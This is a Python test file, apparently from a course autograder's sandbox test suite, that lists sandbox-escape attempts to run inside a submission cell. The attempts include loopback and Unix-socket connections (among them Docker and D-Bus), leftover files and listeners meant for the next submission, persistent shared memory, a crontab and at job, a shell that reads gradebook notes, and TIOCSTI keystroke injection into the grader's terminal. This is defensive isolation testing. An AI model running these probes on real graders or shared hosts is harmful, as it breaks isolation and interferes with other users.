"""Attacks that reach out: the network, the neighbours, the terminal. What succeeds is printed as PWNED."""

from __future__ import annotations

from functools import partial

from tests.attacks.arsenal import STOCK_DANGER, STOCK_NETWORK, cell_attack
from tests.attacks.arsenal_escape import TRY

_escape = partial(cell_attack, "escape", keeps=True, stock=STOCK_NETWORK)


ATTACKS = [
    _escape(
        "tcp_connection",
        "connects to a listener on the loopback device, by IPv4, IPv6 and name",
        TRY
        + """
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
    attempt("tcp " + host, lambda: socket.create_connection((host, @TCP@), 0.3).sendall(b"secret"))
def raw():
    # Without the socket module's help.
    fd = libc.syscall(ctypes.c_long(41), 2, 1, 0)
    return fd
attempt("socket by number", raw, some)
attempt("curl", lambda: subprocess.run(["curl", "-m1", "http://127.0.0.1:@TCP@"], capture_output=True, timeout=1).returncode, zero)
""",
    ),
    _escape(
        "udp_packet",
        "sends a packet to the loopback device, and a name look-up to a server",
        TRY
        + """
def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return s.sendto(b"secret", ("127.0.0.1", @UDP@))
attempt("udp", send)
attempt("name", lambda: socket.gethostbyname("example.com"))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM, 0))
""",
    ),
    _escape(
        "unix_sockets",
        "connects to listeners on Unix sockets, by path and in the abstract namespace",
        TRY
        + """
def connect(address):
    s = socket.socket(socket.AF_UNIX); s.settimeout(0.3); s.connect(address); s.sendall(b"secret")
for address in ("@UNIX@", "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0"):
    attempt("unix " + repr(address), lambda: connect(address))
""",
    ),
    _escape(
        "listens_for_neighbours",
        "leaves listeners in the abstract namespace and in files for the next submission",
        TRY
        + """
for address in ("\\0course-attack", "/tmp/course-attack.sock"):
    try:
        s = socket.socket(socket.AF_UNIX); s.bind(address); s.listen()
    except OSError: pass
import time
if os.fork() == 0:
    # Whatever is refused, the child must not come back: it would answer in its parent's place, at a moment of its own.
    while True:
        try: os.setsid()
        except OSError: pass
        time.sleep(987654)
""",
    ),
    _escape(
        "meets_the_neighbour",
        "looks for listeners and files that an earlier submission left",
        TRY
        + """
for address in ("\\0course-attack", "/tmp/course-attack.sock"):
    attempt("neighbour's " + repr(address), lambda: socket.socket(socket.AF_UNIX).connect(address))
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run/lock"):
    try: left = [name for name in os.listdir(folder) if "pwned" in name]
    except OSError: continue
    if left: print("PW" + "NED: left by a neighbour", left)
""",
    ),
    _escape(
        "leaves_files",
        "leaves files for the next submission wherever it can write",
        TRY
        + """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run/lock", os.path.expanduser("~"), "."):
    try:
        with open(folder + "/pwned-left", "w") as file: file.write("for you")
    except OSError: pass
""",
        stock=STOCK_DANGER,
    ),
    _escape(
        "shares_memory",
        "makes kernel objects that outlive it: shared memory, queues, semaphores, keys",
        TRY
        + """
attempt("shmget", lambda: libc.shmget(4711, 1 << 20, 0o1666), some)
attempt("semget", lambda: libc.semget(4711, 1, 0o1666), some)
attempt("msgget", lambda: libc.msgget(4711, 0o1666), some)
attempt("mq_open", lambda: libc.syscall(ctypes.c_long(240), b"pwned", 66, 0o666, None), some)
attempt("keyctl", lambda: libc.syscall(ctypes.c_long(250), 0, -3, 1), some)
attempt("shm_open", lambda: libc.shm_open(b"/pwned-shm", 66, 0o666), some)
def posix():
    from multiprocessing import shared_memory
    return shared_memory.SharedMemory("pwned-posix", create=True, size=100)
attempt("shared_memory", posix)
""",
    ),
    _escape(
        "starts_programs",
        "starts shells, package managers and a second Python that knows no limits",
        TRY
        + """
attempt("pip", lambda: subprocess.run([sys.executable, "-m", "pip", "install", "--target", "@HOME@", "evil"], capture_output=True, timeout=2).returncode, zero)
attempt("shell", lambda: subprocess.run("cat @ROOT@/gradebook_notes.txt; ls @ROOT@ && echo x > @ROOT@/pwned-shell", shell=True, capture_output=True, timeout=1).stdout.strip(), bool)
attempt("crontab", lambda: subprocess.run("echo '* * * * * id' | crontab -", shell=True, capture_output=True, timeout=1).returncode, zero)
attempt("at", lambda: subprocess.run("echo id | at now", shell=True, capture_output=True, timeout=1).returncode, zero)
""",
        stock=STOCK_DANGER,
    ),
    _escape(
        "types_into_the_terminal",
        "types commands into the grader's terminal",
        TRY
        + """
import fcntl, termios
for number in range(3):
    attempt(f"terminal {number}", lambda: [fcntl.ioctl(number, termios.TIOCSTI, bytes([c])) for c in b"id\\n"])
attempt("controlling terminal", lambda: os.open("/dev/tty", os.O_RDWR))
os.write(1, b"PW" + b"NED: this reached the grader's output\\n"); os.write(2, b"PW" + b"NED: this reached the grader's output\\n")
""",
        stock=STOCK_DANGER,
    ),
]
